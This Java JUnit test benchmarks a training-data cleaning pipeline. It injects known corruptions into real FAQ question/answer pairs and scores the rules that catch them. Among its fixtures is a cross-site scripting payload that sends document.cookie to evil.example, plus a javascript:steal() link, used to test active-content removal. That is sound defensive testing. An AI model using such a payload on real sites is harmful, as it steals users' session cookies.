package dev.tailor.dataprep;

import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.tailor.dataprep.config.CleaningConfig;
import dev.tailor.dataprep.email.EmailSource;
import dev.tailor.dataprep.output.CleaningResult;
import dev.tailor.dataprep.output.Split;
import jakarta.mail.Session;
import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.Random;
import java.util.Set;
import java.util.function.BiFunction;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A labelled messy set built from real exports: the 258 distinct question/answer pairs of examples/support-faq.jsonl
 * (SQLite FAQ and SpamAssassin ham; examples/README.md), each of most of them given one corruption of a known type,
 * with real material where there is some (signatures of the ILUG messages in data/ilug-83/, SpamAssassin list
 * footers, PostgreSQL table rows, a Usenet link). Cleaning runs once over the messy set with the default settings and
 * once over the clean pairs; for each corruption it prints the precision and recall of the rules meant to catch it
 * (a rule firing on a record without that corruption is a false positive) and, for repairs, how often the example
 * came out exactly as cleaning makes the uncorrupted record. Floors are asserted.
 */
class MessySetBenchTest {
    private static final CleaningConfig CONFIG = CleaningConfig.fromJson("{\"report\":{\"samplesPerRule\":100000},"
            + "\"splits\":{\"trainRatio\":1,\"validationRatio\":0,\"testRatio\":0}}");
    private static final int PER_TYPE = 20;

    /** A corruption: how it changes a record's (question, answer), and the rules that should catch it. */
    record Corruption(String name, Set<String> rules, boolean repair, BiFunction<String[], Random, String[]> apply) {
    }

    record Score(int tp, int fp, int fn, int restored, int repairs) {
    }

    @Test
    void everyCorruptionIsCaughtByItsRules(@TempDir Path dir) throws IOException {
        List<String[]> raw = pairs();
        // the base is what cleaning makes of the real pairs (the sample data holds leftover quotes and footers of its
        // own): a rule firing on a base record is then a false positive
        Outcome first = run(dir.resolve("base"), raw.stream().map(p -> new String[] {p[0], p[1], ""}).toList());
        List<String[]> pairs = new ArrayList<>();
        for (int line = 1; line <= raw.size(); line++) {
            String t = first.text(line);
            if (t != null) {
                pairs.add(t.split("\n→\n", 2));
            }
        }
        List<String> signatures = signatures();
        List<String> footers = footers();
        List<Corruption> kinds = corruptions(signatures, footers);
        Random random = new Random(13);
        List<String[]> messy = new ArrayList<>();   // question, answer, corruption name (or "")
        List<Integer> base = new ArrayList<>();     // the clean pair each messy line comes from
        List<Integer> order = new ArrayList<>();
        for (int i = 0; i < pairs.size(); i++) {
            order.add(i);
        }
        java.util.Collections.shuffle(order, random);
        Map<Integer, Corruption> assigned = new HashMap<>();
        int next = 0;
        for (Corruption c : kinds) {
            int n = 0;
            while (n < PER_TYPE && next < order.size()) {
                int i = order.get(next++);
                if (c.name().equals("mojibake") && smart(pairs.get(i)[1]).chars().allMatch(ch -> ch < 128)) {
                    continue; // mojibake needs non-ASCII text; the pair stays clean
                }
                assigned.put(i, c);
                n++;
            }
        }
        for (int i = 0; i < pairs.size(); i++) {
            Corruption c = assigned.get(i);
            if (c == null || c.name().startsWith("duplicate")) {
                messy.add(new String[] {pairs.get(i)[0], pairs.get(i)[1], ""});
                base.add(i);
            }
            if (c != null) {
                String[] qa = c.apply().apply(pairs.get(i).clone(), random);
                messy.add(new String[] {qa[0], qa[1], c.name()});
                base.add(i);
            }
        }
        Outcome clean = run(dir.resolve("clean"), pairs.stream().map(p -> new String[] {p[0], p[1], ""}).toList());
        Outcome out = run(dir.resolve("messy"), messy);

        Map<String, Score> scores = new LinkedHashMap<>();
        StringBuilder table = new StringBuilder(String.format("Messy set: %d real pairs (%d kept by cleaning as the base), %d lines"
                + " after corruption (%d per type), default settings%n  %-22s %9s %7s %9s  %s%n", raw.size(), pairs.size(),
                messy.size(), PER_TYPE, "corruption", "precision",
                "recall", "restored", "rules"));
        for (Corruption c : kinds) {
            int tp = 0;
            int fp = 0;
            int fn = 0;
            int restored = 0;
            int repairs = 0;
            for (int line = 1; line <= messy.size(); line++) {
                boolean corrupted = messy.get(line - 1)[2].equals(c.name());
                boolean fired = out.rules(line).stream().anyMatch(c.rules()::contains);
                if (c.name().equals("pii-in-technical-text")) {
                    fired = corrupted && !out.text(line).contains(technicalOf(messy.get(line - 1)[1]));
                }
                tp += corrupted && fired ? 1 : 0;
                fp += !corrupted && fired ? 1 : 0;
                fn += corrupted && !fired ? 1 : 0;
                if (corrupted && c.repair()) {
                    repairs++;
                    String expected = clean.text(base.get(line - 1) + 1);
                    restored += expected != null && expected.equals(out.text(line)) ? 1 : 0;
                }
            }
            Score s = new Score(tp, fp, fn, restored, repairs);
            scores.put(c.name(), s);
            double precision = tp + fp == 0 ? 1 : (double) tp / (tp + fp);
            double recall = tp + fn == 0 ? 1 : (double) tp / (tp + fn);
            table.append(String.format("  %-22s %9.2f %7.2f %9s  %s%n", c.name(), precision, recall,
                    c.repair() ? restored + "/" + repairs : "-", c.name().equals("pii-in-technical-text")
                            ? "(kept intact = not caught: recall is the share redacted)" : c.rules()));
        }
        System.out.print(table);

        assertFloor(scores, "truncated", 0.9, 0.4);
        assertFloor(scores, "swapped", 1.0, 0.05);
        assertFloor(scores, "repeated", 1.0, 1.0);
        assertFloor(scores, "quoted-reply", 0.85, 1.0);
        assertFloor(scores, "signature", 0.9, 1.0);
        assertFloor(scores, "list-footer", 1.0, 1.0);
        assertFloor(scores, "script", 1.0, 1.0);
        assertFloor(scores, "mojibake", 1.0, 0.9);
        assertFloor(scores, "duplicate-exact", 1.0, 1.0);
        assertFloor(scores, "duplicate-near", 0.9, 0.9);
        Score tech = scores.get("pii-in-technical-text");
        assertTrue(tech.tp() == 0, "technical numbers were redacted: " + tech);
        for (String repaired : List.of("quoted-reply", "signature", "list-footer")) {
            Score s = scores.get(repaired);
            assertTrue(s.restored() * 10 >= s.repairs() * 8, repaired + " restored " + s.restored() + "/" + s.repairs());
        }
        Score repeated = scores.get("repeated"); // a repeated quote line can make a reply look like e-mail: more is removed
        assertTrue(repeated.restored() * 10 >= repeated.repairs() * 4, "repeated restored " + repeated);
    }

    private static void assertFloor(Map<String, Score> scores, String name, double precision, double recall) {
        Score s = scores.get(name);
        double p = s.tp() + s.fp() == 0 ? 1 : (double) s.tp() / (s.tp() + s.fp());
        double r = (double) s.tp() / (s.tp() + s.fn());
        assertTrue(p >= precision && r >= recall, name + ": precision " + p + " recall " + r + " " + s);
    }

    private static List<Corruption> corruptions(List<String> signatures, List<String> footers) {
        String[] attributions = {"On Mon, 5 Aug 2002 10:12:01 +0100, Justin Mason wrote:", "Niall O Broin said:",
            "Am 05.08.2002 schrieb Hans Müller:", "Le lundi 5 août 2002, Jean a écrit :", "El 5/8/2002, Ana escribió:"};
        String[] quoteStyles = {"> ", "| ", "JM> "};
        String[] technical = {"develop | 11 | 5200 | 5020.0000000000000000", "San Francisco 46 50 0.25 1994-11-27",
            "See Section 4.1.2.2 for the syntax.", "https://groups.google.com/groups?selm=34A04430.CF9@ohioee.com",
            "© Copyright 2001-2026, Python Software Foundation."};
        String[] scripts = {"<script>document.location='http://evil.example/?c='+document.cookie</script>",
            "<style>body{display:none}</style>", "<a href=\"javascript:steal()\" onclick=\"steal()\">details</a>"};
        Charset cp1252 = Charset.forName("windows-1252");
        return List.of(
                new Corruption("truncated", Set.of("truncated"), false, (qa, r) -> {
                    int cut = (int) (qa[1].length() * (0.45 + 0.4 * r.nextDouble()));
                    while (cut < qa[1].length() - 1 && Character.isWhitespace(qa[1].charAt(cut))) {
                        cut++;
                    }
                    return new String[] {qa[0], qa[1].substring(0, cut)};
                }),
                new Corruption("swapped", Set.of("repaired.swapped-roles"), true, (qa, r) -> new String[] {qa[1], qa[0]}),
                new Corruption("repeated", Set.of("repaired.repeated-content"), true, (qa, r) ->
                        new String[] {qa[0], String.join(r.nextBoolean() ? "\n\n" : " ", java.util.Collections.nCopies(2 + r.nextInt(3), qa[1]))}),
                new Corruption("quoted-reply", Set.of("email-in-fields.quoted", "email-in-fields.attribution"), true, (qa, r) -> {
                    String style = quoteStyles[r.nextInt(quoteStyles.length)];
                    StringBuilder q = new StringBuilder(qa[1]).append("\n\n").append(attributions[r.nextInt(attributions.length)]);
                    qa[0].lines().forEach(l -> q.append('\n').append(style).append(l));
                    return new String[] {qa[0], q.toString()};
                }),
                new Corruption("signature", Set.of("email-in-fields.signature"), true, (qa, r) ->
                        new String[] {qa[0], qa[1] + "\n\n" + signatures.get(r.nextInt(signatures.size()))}),
                new Corruption("list-footer", Set.of("email-in-fields.list-footer"), true, (qa, r) ->
                        new String[] {qa[0], qa[1] + "\n\n" + footers.get(r.nextInt(footers.size()))}),
                new Corruption("script", Set.of("active-content-removed"), true, (qa, r) -> {
                    int at = qa[1].indexOf("\n\n") > 0 ? qa[1].indexOf("\n\n") : qa[1].length();
                    return new String[] {qa[0], qa[1].substring(0, at) + scripts[r.nextInt(scripts.length)] + qa[1].substring(at)};
                }),
                new Corruption("pii-in-technical-text", Set.of(), false, (qa, r) ->
                        new String[] {qa[0], qa[1] + "\n\n" + technical[r.nextInt(technical.length)]}),
                new Corruption("duplicate-exact", Set.of("exact-duplicate"), false, (qa, r) -> qa),
                new Corruption("duplicate-near", Set.of("near-duplicate"), false, (qa, r) ->
                        new String[] {qa[0], qa[1].replaceFirst("\\b(the|a|is|to)\\b", "$1 very")}),
                new Corruption("mojibake", Set.of("mojibake-repaired"), false, (qa, r) -> // typographic quotes, as exported
                        new String[] {qa[0], new String(smart(qa[1]).getBytes(StandardCharsets.UTF_8), cp1252)}));
    }

    /** {@code s} with typographic apostrophes and dashes, as word processors and help desks write them. */
    private static String smart(String s) {
        return s.replace("'", "\u2019").replace(" - ", " \u2013 ");
    }

    /** The technical line appended to an answer (the last paragraph). */
    private static String technicalOf(String answer) {
        return answer.substring(answer.lastIndexOf("\n\n") + 2);
    }

    /** What the pipeline did to each line: the rules that dropped, changed or noted it, and the example it wrote. */
    record Outcome(Map<Integer, Set<String>> rulesByLine, Map<Integer, String> textByLine) {
        Set<String> rules(int line) {
            return rulesByLine.getOrDefault(line, Set.of());
        }

        String text(int line) {
            return textByLine.get(line);
        }
    }

    private static Outcome run(Path dir, List<String[]> lines) throws IOException {
        StringBuilder jsonl = new StringBuilder();
        for (String[] qa : lines) {
            ObjectNode o = CleaningPipelineTest.JSON.createObjectNode();
            ArrayNode m = o.putArray("messages");
            m.addObject().put("role", "user").put("content", qa[0]);
            m.addObject().put("role", "assistant").put("content", qa[1]);
            jsonl.append(o).append('\n');
        }
        CleaningPipeline p = new CleaningPipeline(CONFIG, dir);
        p.add("messy.jsonl", new ByteArrayInputStream(jsonl.toString().getBytes(StandardCharsets.UTF_8)), null);
        CleaningResult r = p.finish(Map.of());
        JsonNode report = CleaningPipelineTest.JSON.readTree(r.report().toFile());
        Map<Integer, Set<String>> rules = new HashMap<>();
        report.get("dropped").forEach(d -> rules.computeIfAbsent(d.path("line").asInt(), k -> new LinkedHashSet<>()).add(d.get("rule").asText()));
        report.get("samples").fields().forEachRemaining(e -> e.getValue().forEach(s -> {
            String file = s.path("file").asText();
            int line = s.has("line") ? s.get("line").asInt() : file.matches(".*:\\d+$") ? Integer.parseInt(file.replaceAll(".*:", "")) : 0;
            rules.computeIfAbsent(line, k -> new LinkedHashSet<>()).add(e.getKey());
        }));
        Map<Integer, String> text = new HashMap<>();
        for (JsonNode ex : CleaningPipelineTest.readJsonl(r.split(Split.TRAIN))) {
            text.put(ex.at("/source/line").asInt(), ex.at("/messages/0/content").asText() + "\n→\n" + ex.at("/messages/1/content").asText());
        }
        return new Outcome(rules, text);
    }

    /** The distinct (question, answer) pairs of the project's sample data. */
    static List<String[]> pairs() throws IOException {
        Map<String, String[]> distinct = new LinkedHashMap<>();
        for (String line : Files.readAllLines(Path.of("..", "examples", "support-faq.jsonl"))) {
            if (line.isBlank()) {
                continue;
            }
            JsonNode n = CleaningPipelineTest.JSON.readTree(line);
            String[] qa = {n.at("/messages/0/content").asText(), n.at("/messages/1/content").asText()};
            distinct.putIfAbsent(qa[0] + "\u0000" + qa[1], qa);
        }
        return List.copyOf(distinct.values());
    }

    /** Real signatures: what follows the "-- " line of the ILUG messages (the list's footer included). */
    static List<String> signatures() throws IOException {
        List<String> out = new ArrayList<>();
        Session session = Session.getInstance(new Properties());
        for (String f : dev.tailor.dataprep.source.EmailConventionsTest.FILES) {
            try {
                String body = EmailSource.text(new MimeMessage(session, new ByteArrayInputStream(FormatsTest.resource("ilug-83/" + f + ".eml"))));
                int sig = body.indexOf("\n-- \n");
                if (sig >= 0) {
                    out.add(body.substring(sig + 1).strip().replace("\r", ""));
                }
            } catch (jakarta.mail.MessagingException e) {
                throw new IOException(e);
            }
        }
        return out.stream().distinct().toList();
    }

    /** Real mailing-list footers of the SpamAssassin corpus (from the underscore line to the end). */
    static List<String> footers() throws IOException {
        List<String> out = new ArrayList<>();
        for (String f : List.of("spam/easy-ham-1/00004.864220c5b6930b209cc287c361c99af1.txt",
                "spam/easy-ham-1/00012.48a387bc38d1316a6f6b49e8c2e43a03.txt", "spam/easy-ham-1/00059.34a8067a36762120b9292004a4d68558.txt")) {
            String raw = new String(FormatsTest.resource(f), StandardCharsets.ISO_8859_1).replace("\r", "");
            int at = raw.indexOf("\n_____");
            if (at >= 0) {
                out.add(raw.substring(at + 1).strip());
            }
        }
        assertTrue(out.size() >= 2, out.toString());
        return out;
    }
}
